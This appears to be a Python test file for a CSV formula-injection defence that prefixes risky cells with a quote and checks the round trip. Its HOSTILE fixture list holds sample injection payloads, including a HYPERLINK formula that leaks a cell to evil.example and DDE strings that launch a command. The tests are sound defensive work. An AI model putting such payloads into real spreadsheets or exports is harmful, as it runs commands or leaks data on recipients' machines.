"""CSV cells a spreadsheet cannot run (issue 17, item 3): text starting with = + - @ tab or CR gets a `'`,
numbers stay numbers, and reading our own CSV gives every text back exactly, including text that really starts
with `'=`."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from annotator._util.csv_cells import TRIGGERS, DictWriter, neutralise, restore

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Text made mostly of the characters that matter here, so that examples hit the edge cases often.
_EDGY = st.text(alphabet=st.sampled_from([*TRIGGERS, "'", "a", "1", ".", "e", " ", '"', ",", "\n"]))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_a_quote_in_front_and_comes_back(text: str) -> None:
    cell = neutralise(text)
    assert cell == "'" + text
    assert restore(cell) == text


@pytest.mark.parametrize("value", [0, -5, 3.25, -1e-9, None, True, "", "plain text", "a=b", "'quoted'", "''"])
def test_numbers_and_harmless_text_stay_as_they_are(value: object) -> None:
    assert neutralise(value) is value


@pytest.mark.parametrize("text", ["-5", "+5", "-0.5", "-.5", "-1e5", "+2.5E-3", "12"])
def test_text_that_is_a_plain_number_stays_a_number(text: str) -> None:
    assert neutralise(text) == text and restore(text) == text


@pytest.mark.parametrize(("text", "cell"), [("'=1+1", "''=1+1"), ("''-x", "'''-x"), ("'@a", "''@a")])
def test_text_that_really_starts_with_a_quote_and_a_trigger_gets_one_more_quote(text: str, cell: str) -> None:
    assert neutralise(text) == cell and restore(cell) == text


@given(st.one_of(st.text(), _EDGY))
@example("'=")
@example("'")
@example("-")
@example("-5 ")
def test_any_text_round_trips_and_no_cell_can_start_a_formula(text: str) -> None:
    cell = neutralise(text)
    assert restore(cell) == text
    if cell[:1] in TRIGGERS:  # only a plain number may start with one
        assert cell == text and cell.lstrip("+-")[:1] in set("0123456789.")


@given(st.lists(st.tuples(st.one_of(st.text(), _EDGY), st.one_of(st.text(), _EDGY), st.integers()), min_size=1,
                max_size=5))
def test_a_file_written_by_our_writer_reads_back_exactly(tmp_path_factory: pytest.TempPathFactory,
                                                         rows: list[tuple[str, str, int]]) -> None:
    path = tmp_path_factory.mktemp("csv") / "cells.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = DictWriter(handle, fieldnames=["a", "b", "n"])
        writer.writeheader()
        writer.writerows({"a": a, "b": b, "n": n} for a, b, n in rows)
    # The reader's side through `formats.read`: tests/import_export/formats/test_csv_formulas.py.
    with path.open(encoding="utf-8", newline="") as handle:
        back = [{key: restore(value) for key, value in row.items()} for row in csv.DictReader(handle)]
    assert back == [{"a": a, "b": b, "n": str(n)} for a, b, n in rows]


def test_the_file_on_disk_holds_the_quote(tmp_path: Path) -> None:
    path = tmp_path / "cells.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = DictWriter(handle, fieldnames=["comment", "seconds"])
        writer.writeheader()
        writer.writerow({"comment": "=HYPERLINK(\"http://evil.example\",\"x\")", "seconds": -2.5})
    assert path.read_text(encoding="utf-8").splitlines() == [
        "comment,seconds", '"\'=HYPERLINK(""http://evil.example"",""x"")",-2.5']


def test_every_csv_file_is_written_through_the_one_writer() -> None:
    """One place: a new CSV writer that bypassed `csv_cells.DictWriter` would write formulas again."""
    root = Path(__file__).resolve().parent.parent
    bypassing = [
        f"{path.relative_to(root)}: {token}"
        for folder in ("annotator", "app_pages", "ui")
        for path in sorted((root / folder).rglob("*.py"))
        if path.name != "csv_cells.py"
        for token in ("csv.writer(", "csv.DictWriter(", ".to_csv(")
        if token in path.read_text(encoding="utf-8")
    ]
    assert bypassing == []
